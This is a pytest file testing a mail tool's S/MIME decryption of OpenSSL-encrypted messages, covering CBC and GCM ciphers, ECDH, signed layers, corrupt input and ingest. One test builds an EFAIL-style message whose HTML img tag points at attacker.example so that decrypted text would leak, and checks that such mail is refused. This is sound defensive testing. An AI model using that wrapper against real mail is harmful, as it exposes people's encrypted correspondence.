"""The built-in S/MIME decryption, against messages that OpenSSL encrypts at test time."""
from __future__ import annotations

import base64
import datetime as dt
import json
import os
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import mailhost.smime
import pytest
from asn1crypto import cms, core
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.serialization import pkcs12
from cryptography.x509.oid import NameOID
from mailhost import Mailhost
from mailhost.certificates import Certificate
from mailhost.certs import Certificates
from mailhost.connections import ConnectionSpec
from mailhost.plugins import PluginHost
from mailhost.protocols import Direction

from .helpers import run_cli
from .servers.certs import make_pkcs12

INNER = b"Content-Type: text/plain; charset=utf-8\r\n\r\nthe quarterly numbers\r\n"
PASSWORD = "p12-secret"


@dataclass(frozen=True)
class Person:
    """A mailbox owner with an S/MIME certificate: files on disk and the hook's value."""

    name: str
    p12: Path
    cert_file: Path
    key_file: Path
    cert_pem: bytes
    key_pem: bytes

    @property
    def certificate(self) -> Certificate:
        return Certificate(self.name, self.cert_pem, self.key_pem)

    @property
    def serial(self) -> int:
        return x509.load_pem_x509_certificate(self.cert_pem).serial_number


def make_person(directory: Path, name: str) -> Person:
    """A fresh certificate and key for ``name``, as PKCS#12 and as PEM files."""
    p12, cert_pem, key_pem = make_pkcs12(directory, name, PASSWORD)
    cert_file, key_file = directory / f"{name}.crt", directory / f"{name}.key"
    cert_file.write_bytes(cert_pem)
    key_file.write_bytes(key_pem)
    return Person(name, Path(p12), cert_file, key_file, cert_pem, key_pem)


def expired_pkcs12(directory: Path, name: str, password: str = PASSWORD) -> Person:
    """A self-signed certificate that expired yesterday, with its key."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = dt.datetime.now(dt.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - dt.timedelta(days=400))
            .not_valid_after(now - dt.timedelta(days=1)).sign(key, hashes.SHA256()))
    p12 = directory / f"{name}.p12"
    p12.write_bytes(pkcs12.serialize_key_and_certificates(
        name.encode(), key, cert, None, serialization.BestAvailableEncryption(password.encode())))
    cert_pem = cert.public_bytes(serialization.Encoding.PEM)
    key_pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption())
    (directory / f"{name}.crt").write_bytes(cert_pem)
    (directory / f"{name}.key").write_bytes(key_pem)
    return Person(name, p12, directory / f"{name}.crt", directory / f"{name}.key", cert_pem, key_pem)


def ec_person(directory: Path, name: str) -> Person:
    """A P-256 certificate and key (self-signed), for ECDH key agreement."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = dt.datetime.now(dt.timezone.utc)
    cert = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
            .serial_number(x509.random_serial_number()).not_valid_before(now - dt.timedelta(days=1))
            .not_valid_after(now + dt.timedelta(days=30))
            .add_extension(x509.SubjectKeyIdentifier.from_public_key(key.public_key()), critical=False)
            .sign(key, hashes.SHA256()))
    cert_pem = cert.public_bytes(serialization.Encoding.PEM)
    key_pem = key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                                serialization.NoEncryption())
    p12 = directory / f"{name}.p12"
    p12.write_bytes(pkcs12.serialize_key_and_certificates(
        name.encode(), key, cert, None, serialization.BestAvailableEncryption(PASSWORD.encode())))
    (directory / f"{name}.crt").write_bytes(cert_pem)
    (directory / f"{name}.key").write_bytes(key_pem)
    return Person(name, p12, directory / f"{name}.crt", directory / f"{name}.key", cert_pem, key_pem)


def openssl(*args: str | Path, input: bytes = b"") -> bytes:
    """Run the openssl command line; its stdout."""
    done = subprocess.run(["openssl", *map(str, args)], input=input, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


def smime_encrypt(*to: Person, cipher: str = "-aes256", inner: bytes = INNER, subject: str = "numbers") -> bytes:
    """``openssl smime -encrypt``: EnvelopedData, AES-CBC by default."""
    return openssl("smime", "-encrypt", cipher, "-from", "sender@example.org", "-to", f"{to[0].name}@example.com",
                   "-subject", subject, *(p.cert_file for p in to), input=inner)


def cms_encrypt(*to: Person, cipher: str = "-aes-256-gcm", extra: tuple[str, ...] = (),
                inner: bytes = INNER, subject: str = "numbers") -> bytes:
    """``openssl cms -encrypt``: AuthEnvelopedData for a GCM cipher."""
    recipients: list[str | Path] = []
    for p in to:
        recipients += ["-recip", p.cert_file, *extra]
    return openssl("cms", "-encrypt", cipher, "-from", "sender@example.org", "-to", f"{to[0].name}@example.com",
                   "-subject", subject, *recipients, input=inner)


def openssl_decrypt(message: bytes, person: Person) -> bytes:
    """What OpenSSL itself makes of ``message``: the decrypted MIME entity."""
    return openssl("cms", "-decrypt", "-binary", "-recip", person.cert_file, "-inkey", person.key_file, input=message)


def der_of(message: bytes) -> bytes:
    body = message.replace(b"\r\n", b"\n").split(b"\n\n", 1)[1]
    return base64.b64decode(body)


def with_der(message: bytes, der: bytes) -> bytes:
    head = message.replace(b"\r\n", b"\n").split(b"\n\n", 1)[0]
    return head + b"\n\n" + base64.encodebytes(der)


@pytest.fixture(scope="module")
def people(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Person]:
    """alice and bob (attached to the connection) and carol (not attached)."""
    d = tmp_path_factory.mktemp("people")
    return {name: make_person(d, name) for name in ("alice", "bob", "carol")}


@pytest.fixture
def attached(people: dict[str, Person]) -> list[Certificate]:
    return [people["alice"].certificate, people["bob"].certificate]


def decrypt(raw: bytes, certificates: list[Certificate]) -> Any:
    return mailhost.smime.decrypt_message(raw=raw, certificates=certificates)


# ---------------------------------------------------------------------------------------
# Decryption
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("cipher", ["-aes256", "-aes128", "-des3"])
def test_enveloped_data_with_the_matching_one_of_two_certificates(
        people: dict[str, Person], attached: list[Certificate], cipher: str) -> None:
    """`openssl smime -encrypt` (EnvelopedData, CBC) for bob: bob's certificate decrypts it,
    to the same entity OpenSSL gets, under the outer From/To/Subject."""
    message = smime_encrypt(people["bob"], cipher=cipher)
    result = decrypt(message, attached)
    assert (result.certificate, result.error, result.signed) == ("bob", None, False)
    assert result.raw.endswith(openssl_decrypt(message, people["bob"]))
    assert result.raw.endswith(INNER)
    head = result.raw[: -len(INNER)]
    assert b"Subject: numbers\r\n" in head and b"From: sender@example.org\r\n" in head
    assert b"Content-Type" not in head and b"smime.p7m" not in head


@pytest.mark.parametrize("cipher", ["-aes-256-gcm", "-aes-128-gcm"])
def test_auth_enveloped_data_gcm_with_the_matching_one_of_two_certificates(
        people: dict[str, Person], attached: list[Certificate], cipher: str) -> None:
    """`openssl cms -encrypt -aes-256-gcm` (AuthEnvelopedData, S/MIME 4.0) for alice."""
    message = cms_encrypt(people["alice"], cipher=cipher)
    assert b"smime-type=authEnveloped-data" in message
    result = decrypt(message, attached)
    assert (result.certificate, result.error) == ("alice", None)
    assert result.raw.endswith(openssl_decrypt(message, people["alice"]))
    assert result.raw.endswith(INNER)


def test_message_for_both_recipients(people: dict[str, Person]) -> None:
    """A message encrypted for alice and bob opens with either certificate alone."""
    message = smime_encrypt(people["alice"], people["bob"])
    for person in ("alice", "bob"):
        result = decrypt(message, [people[person].certificate])
        assert (result.certificate, result.raw.endswith(INNER)) == (person, True)


def test_recipient_by_subject_key_identifier(people: dict[str, Person], attached: list[Certificate]) -> None:
    """`-keyid` names the recipient by subject key identifier instead of issuer and serial."""
    message = cms_encrypt(people["bob"], extra=("-keyid",))
    info = cms.ContentInfo.load(der_of(message))
    assert info["content"]["recipient_infos"][0].chosen["rid"].name == "subject_key_identifier"
    result = decrypt(message, attached)
    assert (result.certificate, result.raw.endswith(INNER)) == ("bob", True)


def test_rsa_oaep_key_transport(people: dict[str, Person], attached: list[Certificate]) -> None:
    """RSA-OAEP (SHA-256) key transport, as S/MIME 4.0 recommends."""
    message = cms_encrypt(people["alice"], cipher="-aes256",
                          extra=("-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"))
    result = decrypt(message, attached)
    assert (result.certificate, result.raw.endswith(INNER)) == ("alice", True)


@pytest.mark.parametrize(("cipher", "kdf"), [("-aes-256-gcm", None), ("-aes128", "sha256"), ("-aes-128-gcm", "sha384")])
def test_ecdh_key_agreement(tmp_path: Path, people: dict[str, Person], cipher: str, kdf: str | None) -> None:
    """An EC certificate: OpenSSL encrypts by ephemeral-static ECDH (RFC 5753), the
    X9.63 KDF with SHA-1 (its default) or the hash asked for, and AES key wrap."""
    carmen = ec_person(tmp_path, "carmen")
    extra = ("-keyopt", f"ecdh_kdf_md:{kdf}") if kdf else ()
    message = cms_encrypt(carmen, cipher=cipher, extra=extra)
    assert cms.ContentInfo.load(der_of(message))["content"]["recipient_infos"][0].name == "kari"
    result = decrypt(message, [people["alice"].certificate, carmen.certificate])
    assert (result.certificate, result.error) == ("carmen", None)
    assert result.raw.endswith(openssl_decrypt(message, carmen)) and result.raw.endswith(INNER)
    other = ec_person(tmp_path, "other")  # same curve, another key: matched by nothing
    assert decrypt(message, [other.certificate]).error.startswith("no attached certificate matches")


def test_streamed_ber_encoding(people: dict[str, Person], attached: list[Certificate]) -> None:
    """`-stream` writes indefinite-length BER with chunked content; it decrypts the same."""
    message = openssl("smime", "-encrypt", "-aes256", "-stream", people["bob"].cert_file, input=INNER)
    assert der_of(message)[1] == 0x80  # indefinite length
    assert decrypt(message, attached).raw.endswith(INNER)


def test_signed_then_encrypted(people: dict[str, Person], attached: list[Certificate]) -> None:
    """Signed by alice, then encrypted for bob: the result says it was signed, and the
    signed entity comes out byte for byte (so its signature can still be checked)."""
    signed = openssl("smime", "-sign", "-signer", people["alice"].cert_file, "-inkey", people["alice"].key_file,
                     input=INNER)
    message = openssl("smime", "-encrypt", "-aes256", "-subject", "signed", people["bob"].cert_file, input=signed)
    result = decrypt(message, attached)
    assert (result.certificate, result.signed) == ("bob", True)
    entity = openssl_decrypt(message, people["bob"])
    assert b"multipart/signed" in entity and result.raw.endswith(entity)
    openssl("smime", "-verify", "-noverify", input=entity)  # the signature survived decryption intact
    opaque = openssl("smime", "-sign", "-nodetach", "-signer", people["alice"].cert_file,
                     "-inkey", people["alice"].key_file, input=INNER)
    message = openssl("cms", "-encrypt", "-aes-256-gcm", "-recip", people["bob"].cert_file, input=opaque)
    assert decrypt(message, attached).signed is True


def test_encrypted_then_signed(people: dict[str, Person], attached: list[Certificate]) -> None:
    """Encrypted for bob, then signed by alice around it (the outer layer of a triple
    wrap): the signed part is decrypted, under the outer message's headers."""
    encrypted = smime_encrypt(people["bob"], subject="inner subject")
    message = openssl("smime", "-sign", "-signer", people["alice"].cert_file, "-inkey", people["alice"].key_file,
                      "-subject", "outer subject", input=encrypted)
    assert b"multipart/signed" in message.split(b"\n\n", 1)[0]
    result = decrypt(message, attached)
    assert (result.certificate, result.signed, result.error) == ("bob", True, None)
    assert result.raw.endswith(INNER) and b"Subject: outer subject" in result.raw
    assert b"inner subject" not in result.raw


def test_encrypted_part_among_clear_parts_is_not_decrypted(
        people: dict[str, Person], attached: list[Certificate]) -> None:
    """EFAIL's direct exfiltration wraps an encrypted part in attacker-written parts;
    such a part is never decrypted, whether the wrapper is multipart/mixed or a
    multipart/signed with more than the signed part and its signature."""
    encrypted = smime_encrypt(people["bob"]).replace(b"\r\n", b"\n")
    part = encrypted[encrypted.index(b"MIME-Version"):]
    html = b'Content-Type: text/html\n\n<img src="https://attacker.example/'
    mixed = (b"Subject: hi\nContent-Type: multipart/mixed; boundary=b\n\n--b\n" + html + b"\n--b\n" + part
             + b'\n--b\nContent-Type: text/html\n\n">\n--b--\n')
    assert decrypt(mixed, attached) is None
    signature = b"Content-Type: application/pkcs7-signature\n\nMIIB\n"
    padded = (b"Subject: hi\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\n\n"
              b"--b\n" + part + b"\n--b\n" + html + b"\n--b\n" + signature + b"--b--\n")
    assert decrypt(padded, attached) is None
    plain = (b"Subject: hi\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=b\n\n"
             b"--b\n" + part + b"\n--b\n" + signature + b"--b--\n")
    assert decrypt(plain, attached).raw.endswith(INNER)


def test_authenticated_attributes_are_the_aad(people: dict[str, Person], attached: list[Certificate]) -> None:
    """RFC 5083: authAttrs are authenticated as AAD in their DER SET OF form; a message
    whose attributes differ from what was authenticated is refused.

    OpenSSL 3.0 cannot write (or read) authAttrs, so this message is built here with
    ``cryptography``'s one-shot AES-GCM; OpenSSL's fix (openssl/openssl#31695) encodes
    the AAD the same way.
    """
    bob = people["bob"]
    attrs = cms.CMSAttributes([cms.CMSAttribute({"type": "content_type", "values": ["data"]})])
    good = auth_enveloped(bob, INNER, attrs, aad=attrs.dump())
    result = decrypt(good, attached)
    assert (result.certificate, result.raw.endswith(INNER)) == ("bob", True)
    other = cms.CMSAttributes([cms.CMSAttribute({"type": "signing_time", "values": [
        cms.Time(name="utc_time", value=dt.datetime(2030, 1, 1, tzinfo=dt.timezone.utc))]})])
    forged = auth_enveloped(bob, INNER, attrs, aad=other.dump())
    assert decrypt(forged, attached).error.startswith("the message cannot be decrypted with certificate 'bob'")
    implicit = auth_enveloped(bob, INNER, attrs, aad=b"\xa1" + attrs.dump()[1:])
    assert decrypt(implicit, attached).raw is None


class _GCMParameters(core.Sequence):
    _fields = [("aes_nonce", core.OctetString), ("aes_icvlen", core.Integer)]


def auth_enveloped(to: Person, inner: bytes, attrs: cms.CMSAttributes, aad: bytes) -> bytes:
    """An AuthEnvelopedData message for ``to`` with authenticated attributes."""
    cert = x509.load_pem_x509_certificate(to.cert_pem)
    parsed = asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))
    key, nonce = os.urandom(32), os.urandom(12)
    sealed = AESGCM(key).encrypt(nonce, inner, aad)
    params = core.Any.load(_GCMParameters({"aes_nonce": nonce, "aes_icvlen": 16}).dump())
    data = cms.AuthEnvelopedData({
        "version": "v0",
        "recipient_infos": [cms.RecipientInfo(name="ktri", value=cms.KeyTransRecipientInfo({
            "version": "v0",
            "rid": cms.RecipientIdentifier(name="issuer_and_serial_number", value=cms.IssuerAndSerialNumber(
                {"issuer": parsed.issuer, "serial_number": parsed.serial_number})),
            "key_encryption_algorithm": {"algorithm": "rsaes_pkcs1v15"},
            "encrypted_key": cert.public_key().encrypt(key, padding.PKCS1v15()),
        }))],
        "auth_encrypted_content_info": {
            "content_type": "data",
            "content_encryption_algorithm": {"algorithm": "aes256_gcm", "parameters": params},
            "encrypted_content": sealed[:-16],
        },
        "auth_attrs": attrs,
        "mac": sealed[-16:],
    })
    der = cms.ContentInfo({"content_type": "authenticated_enveloped_data", "content": data}).dump()
    return (b"Subject: with attributes\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: application/pkcs7-mime; smime-type=authEnveloped-data; name=smime.p7m\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(der))


# ---------------------------------------------------------------------------------------
# What cannot be decrypted, and what is not ours
# ---------------------------------------------------------------------------------------


def test_unknown_recipient_is_flagged_with_the_reason(people: dict[str, Person], attached: list[Certificate]) -> None:
    """Mail for carol, whose certificate is not attached: no plaintext, and a sentence
    naming the recipient it was encrypted for and the certificates that were tried."""
    result = decrypt(smime_encrypt(people["carol"]), attached)
    assert result.raw is None and result.certificate is None
    assert result.error.startswith("no attached certificate matches a recipient of this message")
    serial = f"{people['carol'].serial:X}"
    assert f"serial {serial.zfill(len(serial) + len(serial) % 2)} issued by CN=mailhost S/MIME CA for carol," in result.error
    assert "'alice'" in result.error and "'bob'" in result.error and "mailhost certs add" in result.error


def test_expired_certificate_still_decrypts(tmp_path: Path, people: dict[str, Person]) -> None:
    """Mail encrypted for a certificate that has expired since (the old one, kept attached
    beside its replacement) is decrypted with it: decryption happens once, at ingest, so
    refusing would leave it unreadable for good."""
    old = expired_pkcs12(tmp_path, "old")
    message = smime_encrypt(old)
    result = decrypt(message, [people["alice"].certificate, old.certificate])
    assert result.error is None and result.certificate == "old"
    assert result.raw is not None and result.raw.endswith(openssl_decrypt(message, old))


@pytest.mark.parametrize("damage", ["base64", "truncated", "garbage", "ciphertext", "tag"])
def test_corrupt_message_is_flagged(people: dict[str, Person], attached: list[Certificate], damage: str) -> None:
    """A damaged body, or a GCM message altered in its ciphertext or tag, is flagged, not decrypted."""
    message = cms_encrypt(people["bob"])
    der = der_of(message)
    if damage == "base64":
        broken = with_der(message, b"") + b"MIIB*====\n"
    elif damage == "truncated":
        broken = with_der(message, der[: len(der) // 2])
    elif damage == "garbage":
        broken = with_der(message, os.urandom(300))
    elif damage == "ciphertext":
        ct = cms.ContentInfo.load(der)["content"]["auth_encrypted_content_info"]["encrypted_content"].native
        at = der.index(ct)
        broken = with_der(message, der[:at] + bytes([der[at] ^ 1]) + der[at + 1:])
    else:
        broken = with_der(message, der[:-1] + bytes([der[-1] ^ 0x80]))  # the mac ends the structure
    result = decrypt(broken, attached)
    assert result.raw is None and result.error
    if damage in ("ciphertext", "tag"):
        assert result.error == ("the message cannot be decrypted with certificate 'bob': "
                                "it is corrupt, was altered, or was not encrypted for this key")
    else:
        assert result.error.startswith("the S/MIME body is corrupt")


def test_not_encrypted_is_not_ours(people: dict[str, Person], attached: list[Certificate]) -> None:
    """Plain mail and signed-only mail (detached or opaque) are left to other plugins: None."""
    alice = people["alice"]
    plain = b"From: a@example.org\r\nSubject: hi\r\n\r\nhello\r\n"
    detached = openssl("smime", "-sign", "-signer", alice.cert_file, "-inkey", alice.key_file, input=INNER)
    opaque = openssl("smime", "-sign", "-nodetach", "-signer", alice.cert_file, "-inkey", alice.key_file, input=INNER)
    assert b"smime-type=signed-data" in opaque
    p7m = b"Content-Type: application/octet-stream; name=report.p7m\r\n\r\nnot cms\r\n"
    for message in (plain, detached, opaque, p7m, b"", b"no header block at all"):
        assert decrypt(message, attached) is None


# ---------------------------------------------------------------------------------------
# At ingest: the pipeline with the plugin registered through the hook
# ---------------------------------------------------------------------------------------


def _plugin_host(*extra: tuple[str, object]) -> PluginHost:
    """The builtin plugins, ``extra``, and smime: registered by the host itself once
    host/plugins.py does so, else passed like any third-party plugin."""
    plugins = PluginHost(only=[], extra=extra)
    if "smime" in plugins.plugins:
        return plugins
    return PluginHost(only=[], extra=[*extra, ("smime", mailhost.smime)])


@pytest.fixture
def smh(home: Path, testplugin: object) -> Iterator[Mailhost]:
    """An installation with the test plugin (for its `dir` protocol) and smime."""
    host = Mailhost.open(home / "mailhost.toml", plugins=_plugin_host(("testplugin", testplugin)))
    yield host
    host.close()


def test_decrypt_message_at_ingest(smh: Mailhost, home: Path, tmp_path: Path, people: dict[str, Person]) -> None:
    """Through the download pipeline: every message is stored as downloaded; the encrypted
    ones beside their decrypted form and the certificate that opened them; the ones that
    cannot be opened flagged with the reason; plain mail untouched. Nothing is retried."""
    assert "decrypt_message" in smh.plugins.plugins["smime"].hooks
    certs = Certificates(smh)
    for name in ("alice", "bob", "carol"):
        certs.add(name, people[name].p12, password=PASSWORD)
    box = tmp_path / "box"
    box.mkdir()
    smh.connections.add(Direction.INCOMING, ConnectionSpec(
        name="desk", protocol="dir", folder=str(box), certificates=["alice", "bob"]))
    files = {
        "1-cbc.eml": smime_encrypt(people["bob"], subject="cbc"),
        "2-gcm.eml": cms_encrypt(people["alice"], subject="gcm"),
        "3-carol.eml": smime_encrypt(people["carol"], subject="for carol"),
        "4-plain.eml": b"From: a@example.org\r\nSubject: plain\r\n\r\nhello\r\n",
        "5-corrupt.eml": with_der(cms_encrypt(people["bob"], subject="corrupt"), os.urandom(200)),
    }
    for name, data in files.items():
        (box / name).write_bytes(data)
    [report] = smh.incoming.fetch(["desk"])
    assert report.ok and report.stored == 5
    items = {i.subject: smh.incoming.item(i.id) for i in smh.incoming.items()}
    for subject, name in (("cbc", "1-cbc.eml"), ("gcm", "2-gcm.eml"), ("for carol", "3-carol.eml"),
                          ("plain", "4-plain.eml"), ("corrupt", "5-corrupt.eml")):
        assert items[subject].raw == files[name]  # the original bytes, untouched
    assert items["cbc"].decryption == {"certificate": "bob", "signed": False, "error": None}
    assert items["cbc"].decrypted.endswith(INNER) and b"Subject: cbc" in items["cbc"].decrypted
    assert items["gcm"].decryption == {"certificate": "alice", "signed": False, "error": None}
    assert items["gcm"].decrypted.endswith(INNER)
    assert items["for carol"].decrypted is None
    assert "no attached certificate matches" in items["for carol"].decryption["error"]
    assert items["corrupt"].decrypted is None and "corrupt" in items["corrupt"].decryption["error"]
    assert items["plain"].decrypted is None and items["plain"].decryption is None
    assert all(i.status == "new" for i in items.values())  # flagged, kept, handed on: never dropped
    assert smh.incoming.fetch(["desk"])[0].stored == 0  # nothing downloaded or decrypted twice

    shown = run_cli("queue", "incoming", "show", str(items["gcm"].id), "--raw", "--decrypted", cwd=home)
    assert shown.returncode == 0 and shown.stdout.replace("\r\n", "\n").endswith(INNER.decode().replace("\r\n", "\n"))
    record = json.loads(run_cli("queue", "incoming", "show", str(items["for carol"].id), "--json", cwd=home).stdout)
    assert record["decryption"]["certificate"] is None
    assert record["decryption"]["error"].startswith("no attached certificate matches")
    refused = run_cli("queue", "incoming", "show", str(items["for carol"].id), "--raw", "--decrypted", cwd=home)
    assert refused.returncode == 2 and "no attached certificate matches" in refused.stderr


def test_encrypted_mail_on_a_connection_without_certificates(
        smh: Mailhost, home: Path, tmp_path: Path, people: dict[str, Person]) -> None:
    """Stored as downloaded, undecrypted; asking for its decrypted form does not claim
    it was not encrypted, but names the missing certificate."""
    box = tmp_path / "box"
    box.mkdir()
    (box / "1.eml").write_bytes(smime_encrypt(people["bob"], subject="no certs"))
    smh.connections.add(Direction.INCOMING, ConnectionSpec(name="bare", protocol="dir", folder=str(box)))
    [report] = smh.incoming.fetch(["bare"])
    assert report.ok and report.stored == 1
    [item] = smh.incoming.items()
    refused = run_cli("queue", "incoming", "show", str(item.id), "--raw", "--decrypted", cwd=home)
    assert refused.returncode == 2 and refused.stdout == ""
    assert "it was not encrypted" not in refused.stderr
    assert "its connection had no certificate attached then" in refused.stderr
